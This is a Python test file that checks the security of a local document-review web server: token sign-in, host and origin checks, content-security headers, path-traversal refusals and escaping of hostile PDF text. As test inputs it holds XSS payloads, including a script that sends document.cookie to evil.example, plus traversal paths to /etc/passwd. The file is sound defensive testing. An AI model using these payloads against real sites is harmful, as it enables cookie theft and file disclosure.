"""The desk's pages and posts, and who may ask for them."""

from __future__ import annotations

import re
import time
from pathlib import Path
from typing import Any

import pytest

from pipeline.records import Codes
from pipeline.results.directory import RunDirectory
from pipeline.review.desk import Desk
from pipeline.review.material import sources
from pipeline.review.server.images import PageImages
from pipeline.running.run import run
from tests.review.pdf import make_pdf
from tests.review.posting import HOME, PORT, POST, TOKEN, browser, some


def test_the_printed_address_signs_in_and_hides_the_token(desk: Desk) -> None:
    client = browser(desk, signed_in=False)
    assert client.get("/").status_code == 403
    assert client.get("/?token=wrong").status_code == 403
    answer = client.get(f"/?token={TOKEN}")
    assert answer.status_code == 303 and answer.headers["location"] == "/"
    cookie = answer.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie
    assert client.get("/").status_code == 200


@pytest.mark.parametrize(
    "path", ["/", "/queue", "/clusters", "/static/desk.js", "/image/x/1", "/item/x"]
)
def test_nothing_is_told_without_the_token(desk: Desk, path: str) -> None:
    assert browser(desk, signed_in=False).get(path).status_code == 403


@pytest.mark.parametrize(
    "host",
    ["evil.example", f"evil.example:{PORT}", "127.0.0.1:1", "", f"127.0.0.1:{PORT}.evil.example"],
)
def test_another_name_for_this_machine_is_refused(desk: Desk, host: str) -> None:
    client = browser(desk)
    assert client.get("/", headers={"host": host}).status_code == 421
    assert client.get(f"/?token={TOKEN}", headers={"host": host}).status_code == 421


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"origin": "http://evil.example"},
        {"origin": "null"},
        {"origin": f"https://127.0.0.1:{PORT}"},
        {"origin": f"http://localhost:{PORT}"},
        {"origin": HOME, "sec-fetch-site": "cross-site"},
        {"origin": HOME, "content-type": "text/plain"},
        {"origin": HOME, "content-type": "application/x-www-form-urlencoded"},
    ],
)
def test_posts_of_other_sites_do_nothing(desk: Desk, headers: dict[str, str]) -> None:
    body = f'{{"sentence": "{some(desk)}", "action": "reject"}}'
    given = {"content-type": "application/json", **headers}
    assert browser(desk).post("/verdict", content=body, headers=given).status_code in (403, 415)
    assert desk.store.last() == 0


def test_every_answer_carries_a_strict_policy(desk: Desk) -> None:
    client = browser(desk)
    for path in ("/", "/clusters", "/nothing", f"/item/{some(desk)}", "/static/desk.css"):
        headers = client.get(path).headers
        policy = headers["content-security-policy"]
        assert "default-src 'none'" in policy and "unsafe" not in policy and "http" not in policy
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["cache-control"] == "no-store"


def test_no_page_asks_another_machine_or_holds_a_script_of_its_own(desk: Desk) -> None:
    client = browser(desk)
    cluster = desk.made.profiles[0].id
    for path in (
        "/",
        "/clusters",
        f"/cluster/{cluster}",
        "/adjudicate",
        "/orphans",
        f"/item/{some(desk)}",
    ):
        text = client.get(path).text
        assert not re.search(r"""(?:src|href|action)=["'](?:https?:)?//""", text)
        assert not re.search(r"<script(?![^>]*src=)[^>]*>|\son\w+=|\sstyle=|javascript:", text)


@pytest.mark.parametrize(
    "path",
    [
        "/static/../app.py",
        "/static/..%2fapp.py",
        "/static/%2e%2e/app.py",
        "/static/../../../../../etc/passwd",
        "/image/..%2f..%2fetc/1",
        "/item/..%2f..%2frun.json",
        "/review.sqlite",
        "/texts/x.txt",
        "/sheet/%2fetc%2fpasswd/1",
    ],
)
def test_no_file_can_be_asked_for(desk: Desk, path: str) -> None:
    assert browser(desk).get(path).status_code == 404


def test_a_verdict_is_on_the_disk_when_it_is_answered(desk: Desk) -> None:
    client = browser(desk)
    sentence = some(desk)
    body = {"sentence": sentence, "action": "reject", "id": "abc"}
    answer = client.post("/verdict", json=body, headers=POST)
    assert answer.status_code == 200 and answer.json()["state"] == "rejected"
    assert answer.json()["progress"]["seen"] == 1
    # Its answer may be lost: the page sends it again, and it counts once.
    assert client.post("/verdict", json=body, headers=POST).status_code == 200
    assert desk.store.last() == 1
    other = Desk(desk.folder)
    assert other.item(sentence, "ben").state == "rejected"
    other.close()


def test_a_change_to_what_the_machine_said_is_an_acceptance(desk: Desk) -> None:
    sentence = some(desk)
    machine = desk.material.machine[sentence]
    fields = {n: getattr(machine, n) for n in Codes.model_fields if n != "cluster"}
    codes = Codes(**fields).model_dump(mode="json", by_alias=True)
    body = {"sentence": sentence, "action": "change", "codes": codes}
    assert browser(desk).post("/verdict", json=body, headers=POST).json()["state"] == "accepted"
    body["codes"]["governance"] = ["network"]
    assert browser(desk).post("/verdict", json=body, headers=POST).json()["state"] == "changed"


@pytest.mark.parametrize(
    ("body", "status"),
    [
        ({"action": "reject"}, 404),
        ({"sentence": "none", "action": "reject"}, 404),
        ({"sentence": "", "action": "dance"}, 400),
        ({"sentence": "", "action": "change", "codes": {"governance": "x"}}, 400),
        ({"sentence": "", "action": "change", "codes": {"shares": [{"value": 7}]}}, 400),
        ([], 400),
    ],
)
def test_what_makes_no_sense_is_refused_with_a_reason(desk: Desk, body: Any, status: int) -> None:
    if isinstance(body, dict) and body.get("sentence") == "":
        body = {**body, "sentence": some(desk)}
    answer = browser(desk).post("/verdict", json=body, headers=POST)
    assert answer.status_code == status and answer.text
    assert desk.store.last() == 0


def test_merge_and_split_change_the_profiles_and_are_undone(desk: Desk) -> None:
    client = browser(desk)
    before = [p.id for p in desk.made.profiles]
    assert len(before) >= 2
    client.post("/merge", json={"into": before[0], "merged": [before[1]]}, headers=POST)
    assert [p.id for p in desk.made.profiles] == [i for i in before if i != before[1]]
    client.post("/undo", json={}, headers=POST)
    desk.make()
    assert [p.id for p in desk.made.profiles] == before
    going = [i for i, e in desk.made.evidence.items() if e.cluster_id == before[0]][:2]
    body = {"sentences": going, "new_cluster": {"name": "The small firms", "country": "br"}}
    made = client.post("/split", json=body, headers=POST).json()["cluster"]
    assert {desk.made.evidence[i].cluster_id for i in going} == {made}
    assert "The small firms" in client.get(f"/cluster/{made}").text


def test_blind_coders_do_not_see_each_other(folder: Path) -> None:
    desk = Desk(folder, blind=True)
    sentence = some(desk)
    ana, ben = browser(desk, "ana"), browser(desk, "ben")
    body = {"sentence": sentence, "action": "reject", "comment": "a secret remark"}
    ana.post("/verdict", json=body, headers=POST)
    assert "rejected" in ana.get(f"/item/{sentence}").text
    seen = ben.get(f"/item/{sentence}").text
    assert (
        'data-state="machine"' in seen
        and "secret" not in seen
        and "ana" not in seen.split("<p class")[0]
    )
    assert ben.get("/queue").json()["progress"]["seen"] == 0
    assert ben.get("/adjudicate").status_code == 403
    ben.post("/verdict", json={"sentence": sentence, "action": "accept"}, headers=POST)
    desk.save()
    # Where blind coders differ, the machine's codes stand until somebody decides.
    row = next(e for e in RunDirectory(folder).evidence() if e.id == sentence)
    assert row.review.state == "machine"
    desk.close()
    judge = Desk(folder)
    client = browser(judge, "cleo")
    page = client.get("/adjudicate").text
    assert sentence in page and "ana" in page and "ben" in page
    body = {"sentence": sentence, "action": "reject", "adjudicate": True}
    client.post("/verdict", json=body, headers=POST)
    assert sentence not in client.get("/adjudicate").text
    judge.save()
    row = next(e for e in RunDirectory(folder).evidence() if e.id == sentence)
    assert (row.review.state, row.review.coder) == ("rejected", "cleo")
    judge.close()


HOSTILE = [
    "The <script>fetch('//evil.example/'+document.cookie)</script> Sinos Valley firms sell",
    "to one buyer <img src=x onerror=alert(1)> who supplies the designs and inspects the shoes.",
    'In the Sinos Valley export agents supply "onmouseover="alert(2) the shoe designs </blockquote>',
    "and they control quality in the footwear factories {{ 7*7 }} {% raw %} of the cluster.",
]


def test_text_of_a_hostile_pdf_is_shown_and_never_run(tmp_path: Path) -> None:
    pdf = make_pdf(tmp_path / "<b>&'\".pdf", [HOSTILE * 3], "<script>alert('title')</script>")
    out = tmp_path / "run"
    run([pdf], out)
    desk = Desk(out)
    client = browser(desk)
    sentences = [s.id for s in desk.material.sentences]
    assert sentences
    for sentence in sentences:
        remark = {"sentence": sentence, "comment": "<script>alert('comment')</script>"}
        client.post("/comment", json=remark, headers=POST)
    body = {
        "sentence": sentences[0],
        "action": "change",
        "codes": {"scope": "case", "governance": ["network"], "source": "<svg onload=alert(3)>"},
        "new_cluster": {"name": "<script>alert('cluster')</script>"},
    }
    assert client.post("/verdict", json=body, headers=POST).status_code == 200
    desk.save()
    pages = [
        "/",
        "/clusters",
        *(f"/item/{s}" for s in sentences),
        *(f"/cluster/{p.id}" for p in desk.made.profiles),
    ]
    whole = ""
    for path in pages:
        text = client.get(path).text
        assert not re.search(
            r"<script(?![^>]*src=\"/static/)|<img|<svg on|<[^>]*\sonerror|<[^>]*\sonmouseover", text
        ), path
        whole += text
    assert (
        "&lt;script&gt;" in whole
        and "{{ 7*7 }}" in whole
        and "49" not in re.sub(r"[\d.]+\d", "", whole)
    )
    desk.close()


def test_a_long_pdf_opens_as_fast_as_a_short_one(tmp_path: Path) -> None:
    """From asking for a sentence to the picture of its page, at a desk that has opened nothing yet."""
    desks = {}
    for n in (10, 300):
        lines = ["In the Sinos Valley, buyers from abroad supply the designs of the shoes."]
        lines += ["The firms of the valley sell them to few buyers."] * 2
        pdf = make_pdf(tmp_path / f"{n}.pdf", [[f"Page {i}.", *lines] for i in range(n)])
        run([pdf], tmp_path / f"run-{n}")
        desks[n] = Desk(tmp_path / f"run-{n}")
        assert desks[n].material.documents[0].pages == n
    took: dict[int, list[float]] = {n: [] for n in desks}
    for _ in range(7):
        for n, desk in desks.items():
            client = browser(desk)  # with an empty cache of pictures
            row = desk.material.sentences[-2]
            assert row.page >= n - 2
            began = time.perf_counter()
            shown = client.get(f"/item/{row.id}").text
            picture = re.search(r'href="(/image/[^"]+)"', shown)
            assert picture and f"/{row.page}?" in picture[1]
            assert client.get(picture[1].replace("&amp;", "&")).status_code == 200
            took[n].append(time.perf_counter() - began)
    for desk in desks.values():
        desk.close()
    assert min(took[300]) < 1.5 * min(took[10]) + 0.02, took


def test_a_page_that_cannot_be_drawn_is_shown_as_text(desk: Desk) -> None:
    gone = PageImages(type(sources(desk.folder))([]))
    from pipeline.review.server.view import page_view

    document = desk.material.documents[0]
    shown = page_view(desk, gone, document.id, 1, "ana")
    assert "--pdfs" in shown["why"] and shown["rows"]
